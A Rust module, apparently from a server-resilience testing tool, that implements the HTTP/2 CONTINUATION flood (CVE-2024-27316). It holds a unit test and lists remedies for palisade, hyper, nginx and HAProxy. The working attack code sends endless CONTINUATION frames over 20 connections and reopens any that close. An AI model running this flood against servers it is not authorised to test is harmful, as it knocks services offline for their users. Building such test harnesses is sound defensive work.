//! A header block that never ends.

use super::{
    frames::{CONTINUATION, END_STREAM, HEADERS, block, frame},
    session::Session,
};
use crate::{
    attacks::{
        attack::{Addresses, Attack, InQuick, Protocol, remedy},
        pause::reopen,
    },
    machine::{Actions, Event, Machine},
    plan::Plan,
};
use bytes::Bytes;
use std::time::Duration;

/// The payload of each CONTINUATION, and the time between two of them.
const PIECE_BYTES: usize = 2_048;
const INTERVAL: Duration = Duration::from_millis(20);

pub(in crate::attacks) fn attacks() -> Vec<Attack> {
    vec![Attack {
        name: "continuation-flood",
        in_quick: InQuick::Skipped("dripped-head withholds the same in HTTP/1"),
        threat: "T15",
        title: "HTTP/2 header blocks that CONTINUATION frames extend without end",
        withholds: "the end of the header block",
        stopped_by: "a limit on CONTINUATION frames, and a deadline for the whole head",
        cve: Some("CVE-2024-27316"),
        protocol: Protocol::Http2,
        connections: 20,
        addresses: Addresses::Many(20),
        remedies: const {
            &[
                remedy("palisade", "palisade::serve, ConnGuard: header_timeout"),
                remedy(
                    "hyper",
                    "h2 0.4.4 or later, http2::Builder::max_header_list_size 16 KiB",
                ),
                remedy(
                    "nginx",
                    "none needed: its limit is large_client_header_buffers",
                ),
                remedy(
                    "HAProxy",
                    "3.0 or later, tune.h2.fe.glitches-threshold 1000",
                ),
            ]
        },
        make: |plan, _| Box::new(Endless::new(plan)),
        ..Attack::BASE
    }]
}

struct Endless {
    first: Bytes,
    piece: Bytes,
    ends: Duration,
    session: Session,
}

impl Endless {
    fn new(plan: &Plan) -> Self {
        let first = block(&plan.fields("GET", &plan.get));
        let value = "c".repeat(PIECE_BYTES);
        Self {
            first: frame(HEADERS, END_STREAM, 1, &first).into(),
            piece: frame(CONTINUATION, 0, 1, &block(&[("x-more", &value)])).into(),
            ends: plan.ends,
            session: Session::default(),
        }
    }
}

impl Machine for Endless {
    fn on(&mut self, event: Event<'_>, now: Duration, out: &mut Actions) {
        match event {
            Event::Opened => {
                self.session.open(&[], out);
                out.send(self.first.clone());
            }
            // No other frame may stand in a header block, so nothing is acknowledged.
            Event::Received(_) => return,
            Event::Closed => return reopen(now, out),
            Event::Woken => out.send(self.piece.clone()),
        }
        if now < self.ends {
            out.wake_at(now + INTERVAL);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::frames::{PREFACE, Reader, SETTINGS};
    use super::*;
    use crate::machine::trace;

    #[test]
    fn a_header_block_is_extended_and_never_ended() {
        let sent = trace(&mut Endless::new(&Plan::new("a")), Duration::from_secs(1));
        let all: Vec<_> = sent.into_iter().flat_map(|(_, bytes)| bytes).collect();
        let (mut reader, mut seen) = (Reader::default(), Vec::new());
        reader.read(all.strip_prefix(PREFACE).unwrap(), |frame| {
            seen.push((frame.kind, frame.flags));
        });
        assert_eq!(seen[..2], [(SETTINGS, 0), (HEADERS, END_STREAM)]);
        assert_eq!(seen[2..], [(CONTINUATION, 0); 50]);
    }
}
